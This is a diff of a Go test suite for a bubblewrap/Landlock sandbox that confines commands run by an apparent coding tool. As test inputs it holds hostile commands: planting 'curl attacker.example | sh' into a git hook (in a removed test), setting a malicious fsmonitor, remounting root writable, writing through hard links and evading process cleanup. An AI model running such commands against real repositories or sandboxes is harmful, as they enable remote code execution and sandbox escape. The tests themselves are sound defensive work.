@@ -25,7 +25,10 @@ import (
 // These tests run real commands in real sandboxes, and skip where the
 // machine lacks a backend.
 
-// realSandbox returns a sandbox of the given kind, or skips the test.
+// realSandbox returns a sandbox of the given kind, or skips the test where
+// the machine has none; under CI=true it fails instead (.ci/run installs
+// bubblewrap, and CI's kernel has Landlock: a test that skips there tests
+// nothing).
 func realSandbox(t *testing.T, kind string, p Policy) *Sandbox {
 	t.Helper()
 	pr := systemProbes()
@@ -34,11 +37,11 @@ func realSandbox(t *testing.T, kind string, p Policy) *Sandbox {
 		// Hide bwrap so that New falls through to Landlock.
 		pr.lookPath = func(string) (string, error) { return "", exec.ErrNotFound }
 		if landlockABI() < 1 {
-			t.Skip("the kernel has no Landlock")
+			unavailable(t, "the kernel has no Landlock")
 		}
 	case KindBubblewrap:
 		if _, err := exec.LookPath("bwrap"); err != nil {
-			t.Skip("bubblewrap is not installed (apt-get install bubblewrap)")
+			unavailable(t, "bubblewrap is not installed (apt-get install bubblewrap)")
 		}
 	}
 	s, err := newSandbox(ModeAuto, p, pr)
@@ -47,9 +50,18 @@ func realSandbox(t *testing.T, kind string, p Policy) *Sandbox {
 	}
 	t.Cleanup(func() { s.Close() })
 	if s.Kind() != kind {
-		t.Skipf("no %s sandbox here: %s", kind, s.Notice())
+		unavailable(t, fmt.Sprintf("no %s sandbox here: %s", kind, s.Notice()))
 	}
 	return s
+}
+
+// unavailable skips the test, or fails it under CI=true.
+func unavailable(t *testing.T, why string) {
+	t.Helper()
+	if os.Getenv("CI") == "true" {
+		t.Fatal(why + " (CI=true: the sandbox tests must run)")
+	}
+	t.Skip(why)
 }
 
 var kinds = []string{KindBubblewrap, KindLandlock}
@@ -72,6 +84,9 @@ func runIn(t *testing.T, s *Sandbox, dir, script string, env ...string) (string,
 		t.Fatalf("start %q: %v", script, err)
 	}
 	_ = cmd.Wait()
+	if note := s.Finish(ctx, cmd); note != "" {
+		buf.WriteString("\n[finish] " + note)
+	}
 	return buf.String(), cmd.ProcessState.ExitCode()
 }
 
@@ -136,6 +151,10 @@ func TestSandboxFilesystem(t *testing.T) {
 				{name: "read outside", script: "cat " + home + "/.bashrc", wantOut: "# rc"},
 				{name: "dev null", script: "echo x > /dev/null && echo ok", wantOut: "ok"},
 				{name: "exit code", script: "echo out; exit 3", wantCode: 3, wantOut: "out"},
+				// Even where the tests run as root: a capability would let
+				// a command remount a read-only bind writable, or reboot.
+				{name: "no capabilities", script: `grep -E '^Cap(Eff|Prm|Amb):' /proc/self/status | grep -v '0000000000000000$' || echo none`, wantOut: "none"},
+				{name: "no remount", script: "mount -o remount,rw,bind / 2>/dev/null", wantCode: -1},
 			}
 			for _, tt := range tests {
 				t.Run(tt.name, func(t *testing.T) {
@@ -168,73 +187,22 @@ func TestSandboxFilesystem(t *testing.T) {
 	}
 }
 
-// TestSandboxProtectsGit checks that a command cannot plant anything git
-// would run outside the sandbox, nor project settings, while git itself
-// still works inside. Landlock cannot do this (see the package doc).
-func TestSandboxProtectsGit(t *testing.T) {
-	if _, err := exec.LookPath("git"); err != nil {
-		t.Skip("git is not installed")
-	}
+// TestBubblewrapProtectsSettings: a command cannot write the project's
+// NovaCode settings, which decide what runs without asking. (Git metadata:
+// TestGitMetadataUnderBubblewrap.)
+func TestBubblewrapProtectsSettings(t *testing.T) {
 	ws := workspace(t)
 	s := realSandbox(t, KindBubblewrap, Policy{Workspace: ws})
-	git := func(args ...string) {
-		t.Helper()
-		cmd := exec.Command("git", args...)
-		cmd.Dir = ws
-		if out, err := cmd.CombinedOutput(); err != nil {
-			t.Fatalf("git %v: %v\n%s", args, err, out)
+	for _, script := range []string{
+		"mkdir -p .novacode && echo '{}' > .novacode/settings.json",
+		"mv .novacode .novacode-old && mkdir .novacode && echo '{}' > .novacode/settings.json",
+	} {
+		if out, code := runIn(t, s, ws, script); code == 0 {
+			t.Errorf("%q succeeded: %s", script, out)
 		}
-	}
-	git("init", "-q", "-b", "main")
-	hook := filepath.Join(ws, ".git", "hooks", "pre-commit")
-	writeFile(t, hook, "#!/bin/sh\nexit 0\n")
-	if err := os.Chmod(hook, 0o755); err != nil {
-		t.Fatal(err)
-	}
-	config := filepath.Join(ws, ".git", "config")
-	before := map[string][]byte{}
-	for _, p := range []string{hook, config} {
-		before[p], _ = os.ReadFile(p)
-	}
-
-	tests := []struct {
-		name   string
-		script string
-		absent string
-	}{
-		{name: "modify a hook", script: "echo 'curl attacker.example | sh' >> .git/hooks/pre-commit"},
-		{name: "replace a hook", script: "rm -f .git/hooks/pre-commit"},
-		{name: "add a hook", script: "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout", absent: filepath.Join(ws, ".git", "hooks", "post-checkout")},
-		{name: "modify config", script: "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config"},
-		{name: "git config", script: "git config core.fsmonitor evil"},
-		{name: "replace config", script: "rm -f .git/config && echo evil > .git/config"},
-		{name: "move .git aside", script: "mv .git .git-old && mkdir -p .git/hooks", absent: filepath.Join(ws, ".git-old")},
-		{name: "move hooks aside", script: "mv .git/hooks .git/hooks-old", absent: filepath.Join(ws, ".git", "hooks-old")},
-		{name: "write project settings", script: "mkdir -p .novacode && echo '{}' > .novacode/settings.json", absent: filepath.Join(ws, ".novacode", "settings.json")},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			out, code := runIn(t, s, ws, tt.script)
-			if code == 0 {
-				t.Errorf("succeeded; output %q", out)
-			}
-			if tt.absent != "" {
-				if _, err := os.Stat(tt.absent); !os.IsNotExist(err) {
-					t.Errorf("%s exists", tt.absent)
-				}
-			}
-			for p, want := range before {
-				if got, err := os.ReadFile(p); err != nil || !bytes.Equal(got, want) {
-					t.Errorf("%s changed: %q, %v", p, got, err)
-				}
-			}
-		})
-	}
-
-	// Ordinary git work, which writes the index, objects and refs, goes on.
-	out, code := runIn(t, s, ws, "echo x > f && git add f && git -c user.name=n -c user.email=e@example.com commit -qm m && git log --oneline | wc -l")
-	if code != 0 || strings.TrimSpace(out) != "1" {
-		t.Errorf("git commit in the sandbox: code %d, output %q", code, out)
+		if _, err := os.Stat(filepath.Join(ws, ".novacode", "settings.json")); !os.IsNotExist(err) {
+			t.Errorf("%q: the settings file exists", script)
+		}
 	}
 }
 
@@ -447,15 +415,16 @@ func killMarked(marker string) {
 // gets confined commands, the socket filter included.
 func TestBubblewrapWithoutInitProcess(t *testing.T) {
 	if _, err := exec.LookPath("bwrap"); err != nil {
-		t.Skip("bubblewrap is not installed (apt-get install bubblewrap)")
+		unavailable(t, "bubblewrap is not installed (apt-get install bubblewrap)")
 	}
 	ws := workspace(t)
 	s, err := newSandbox(ModeAuto, Policy{Workspace: ws}, systemProbes())
 	if err != nil {
 		t.Fatal(err)
 	}
+	t.Cleanup(func() { s.Close() })
 	if s.Kind() != KindBubblewrap {
-		t.Skipf("bubblewrap does not work here: %s", s.Notice())
+		unavailable(t, "bubblewrap does not work here: "+s.Notice())
 	}
 	outside := t.TempDir() // under the host's /tmp, hidden inside
 	if out, code := runIn(t, s, ws, "echo x > made && echo y > "+outside+"/evil"); code == 0 {
@@ -679,5 +648,122 @@ func TestLandlockLeavesTheProcessUnconfined(t *testing.T) {
 	wg.Wait()
 	if out, err := exec.Command("bash", "-c", "echo x > "+outside+"/plain").CombinedOutput(); err != nil {
 		t.Errorf("an unsandboxed command cannot write outside: %v %s", err, out)
+	}
+}
+
+// TestHardLinksUnderBubblewrap: files in the workspace that are hard links
+// to files outside cannot be written through, by any writer; the control
+// without a sandbox shows that each of them would.
+func TestHardLinksUnderBubblewrap(t *testing.T) {
+	writers := []struct{ name, script string }{
+		{"redirect", "echo pwned > rc"},
+		{"append", "echo pwned >> rc"},
+		{"cp", "echo pwned > /tmp/x && cp /tmp/x rc"},
+		{"dd", "echo pwned | dd of=rc conv=notrunc status=none"},
+		{"truncate", "truncate -s 0 rc"},
+		{"a script", "printf 'with open(\"rc\", \"w\") as f: f.write(\"pwned\")' > w.py && (python3 w.py || perl -e 'open(F, \">\", \"rc\"); print F \"pwned\"')"},
+		{"sed -i writes a new file: harmless, but the name stays", "sed -i s/original/pwned/ rc"},
+		{"in a store directory bound whole", "echo pwned > node_modules/.pnpm/pkg/index.js"},
+		{"in a store directory, a new file", "echo new > node_modules/.pnpm/pkg/new.js && echo pwned > node_modules/.pnpm/pkg/index.js"},
+		{"in .git/objects", "chmod u+w .git/objects/pack/p.pack; echo pwned > .git/objects/pack/p.pack"},
+	}
+	for _, sandboxed := range []bool{false, true} {
+		for _, w := range writers {
+			t.Run(fmt.Sprintf("sandboxed=%v/%s", sandboxed, w.name), func(t *testing.T) {
+				ws, outside := workspace(t), outsideDir(t, "/var/tmp")
+				victims := map[string]string{
+					"bashrc": "rc",
+					"index":  "node_modules/.pnpm/pkg/index.js",
+					"pack":   ".git/objects/pack/p.pack",
+				}
+				for victim, name := range victims {
+					writeFile(t, filepath.Join(outside, victim), "original\n")
+					if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, name)), 0o755); err != nil {
+						t.Fatal(err)
+					}
+					if err := os.Link(filepath.Join(outside, victim), filepath.Join(ws, name)); err != nil {
+						t.Fatal(err)
+					}
+				}
+				writeFile(t, filepath.Join(ws, ".git", "HEAD"), "ref: refs/heads/main\n")
+				if err := os.MkdirAll(filepath.Join(ws, ".git", "refs"), 0o755); err != nil {
+					t.Fatal(err)
+				}
+				s, err := New(ModeOff, Policy{})
+				if err != nil {
+					t.Fatal(err)
+				}
+				if sandboxed {
+					s = realSandbox(t, KindBubblewrap, Policy{Workspace: ws})
+					if g := s.Guarantees(context.Background()); !g.HardLinks {
+						t.Errorf("no promise about hard links: %v", g.Gaps)
+					}
+				}
+				out, _ := runIn(t, s, ws, w.script)
+				changed := false
+				for victim := range victims {
+					if got, _ := os.ReadFile(filepath.Join(outside, victim)); string(got) != "original\n" {
+						changed = true
+						if sandboxed {
+							t.Errorf("%s outside the workspace was written through its link: %q\n%s", victim, got, out)
+						}
+					}
+				}
+				if !sandboxed && !changed && !strings.HasPrefix(w.name, "sed -i") {
+					t.Errorf("control: without a sandbox the writer changed nothing outside; the check cannot fail\n%s", out)
+				}
+			})
+		}
+	}
+}
+
+// TestFinishEndsWhatACommandLeaves: processes a command leaves behind,
+// in the background, in a new process group or a new session, are gone
+// once Finish returns (Landlock kills its domain; bubblewrap's PID
+// namespace died with it); those of another command still running are
+// not touched.
+func TestFinishEndsWhatACommandLeaves(t *testing.T) {
+	for _, kind := range kinds {
+		t.Run(kind, func(t *testing.T) {
+			ws := workspace(t)
+			s := realSandbox(t, kind, Policy{Workspace: ws})
+			if kind == KindLandlock && landlockABI() < 6 {
+				t.Log("Landlock without the signal scope: only the session is ended, setsid escapes")
+			}
+			other := fmt.Sprintf("%d.%06d", 900+rand.IntN(99), rand.IntN(1_000_000))
+			marker := fmt.Sprintf("%d.%06d", 900+rand.IntN(99), rand.IntN(1_000_000))
+			t.Cleanup(func() { killMarked(other); killMarked(marker) })
+
+			// Another command, still running.
+			long := exec.Command("bash", "-c", "sleep "+other+" & wait")
+			long.Dir = ws
+			long.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
+			if err := s.Start(long); err != nil {
+				t.Fatal(err)
+			}
+			waitFor(t, func() bool { return len(marked(other)) >= 1 }, "the other command to start")
+
+			script := "sleep " + marker + " >/dev/null 2>&1 & " +
+				"(trap '' HUP TERM; exec sleep " + marker + ") >/dev/null 2>&1 & " +
+				"set -m; sleep " + marker + " >/dev/null 2>&1 & set +m; "
+			if kind == KindBubblewrap || landlockABI() >= 6 {
+				script += "setsid sleep " + marker + " >/dev/null 2>&1 & "
+			}
+			script += "sleep 0.2; echo started"
+			out, code := runIn(t, s, ws, script) // runIn calls Finish
+			if code != 0 || !strings.Contains(out, "started") {
+				t.Fatalf("code %d: %s", code, out)
+			}
+			if left := marked(marker); len(left) > 0 {
+				t.Errorf("processes the command left are alive after Finish: %v", left)
+			}
+			if len(marked(other)) == 0 {
+				t.Error("Finish of one command killed another command's processes")
+			}
+			_ = syscall.Kill(-long.Process.Pid, syscall.SIGKILL)
+			_ = long.Wait()
+			s.Finish(context.Background(), long)
+			waitFor(t, func() bool { return len(marked(other)) == 0 }, "the other command's processes to end")
+		})
 	}
 }
